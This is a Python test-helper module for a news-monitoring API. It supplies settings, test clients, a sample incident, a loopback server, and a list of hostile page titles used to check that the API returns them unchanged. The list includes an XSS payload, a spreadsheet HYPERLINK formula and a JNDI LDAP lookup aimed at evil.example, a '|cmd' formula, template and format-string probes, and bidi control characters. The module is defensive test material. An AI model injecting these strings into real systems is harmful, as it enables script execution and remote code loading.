"""Server, visitors and hostile texts that the tests of the API share."""

from __future__ import annotations

import random
import socket
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import uvicorn
from fastapi import FastAPI
from starlette.testclient import TestClient

from citra.alerts.incident import Incident
from citra.alerts.watch import Watch
from citra.config import Settings, load_settings
from citra.documents import Mention

sys.path.insert(0, str(Path(__file__).parents[1] / "store"))

from mention_factory import mention

NOW = datetime(2026, 11, 24, 3, 0, tzinfo=UTC)
SIZE = 300
#: what a page may call itself; each must come back as it is, and do nothing
HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "\u202eevil\u202c \u2066 \u0000-less \ufeff",
    '=HYPERLINK("http://evil.example","klik")',
    "@SUM(A1:A9)|cmd",
    "{{7*7}} ${jndi:ldap://evil.example} %s%n",
    "a" * 30_000,
    "🧿" * 500 + "‼️",
    "</title>]]><!--",
)


def hostile() -> list[Mention]:
    rng = random.Random(3)
    return [
        replace(
            mention(rng, 9_000 + number, story=f"h{number}", title=title, text=f"jahat {title}", published=NOW),
            relevance=0.9,
        )
        for number, title in enumerate(HOSTILE)
    ]


def settings_for(index: str, folder: Path, **environ: str) -> Settings:
    """Settings whose every file lies in ``folder``."""
    return load_settings(
        environ={
            "CITRA_INDEX_PATH": index,
            "CITRA_LAKE_PATH": str(folder / "lake"),
            "CITRA_API_KEYS": str(folder / "keys.sqlite"),
            "CITRA_WEB_DATA": str(folder / "web"),
            **environ,
        }
    )


def visitor(app: FastAPI, key: str = "", **headers: str) -> TestClient:
    given = {"Authorization": f"Bearer {key}"} if key else {}
    return TestClient(app, base_url="http://127.0.0.1:8000", headers=given | headers, raise_server_exceptions=False)


WATCH = Watch(name="Dana desa", text="dana desa", measure="volume")


def incident() -> Incident:
    """One that is open."""
    return Incident(
        watch=WATCH.id, name=WATCH.name, window="day", status="open", first=NOW, last=NOW, opened_at=NOW,
        opening_count=30, opening_expected=6.5, count=30, expected=6.5, deviation=2.5, p=1e-6, peak=NOW, total=30,
        total_expected=6.5,
    )  # fmt: skip


@contextmanager
def serving(app: FastAPI) -> Iterator[str]:
    """uvicorn in a thread, for real on loopback; its address."""
    server = uvicorn.Server(uvicorn.Config(app, log_level="warning", lifespan="on"))
    listening = socket.create_server(("127.0.0.1", 0))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.01)
    try:
        yield f"http://127.0.0.1:{listening.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join(10)
        listening.close()
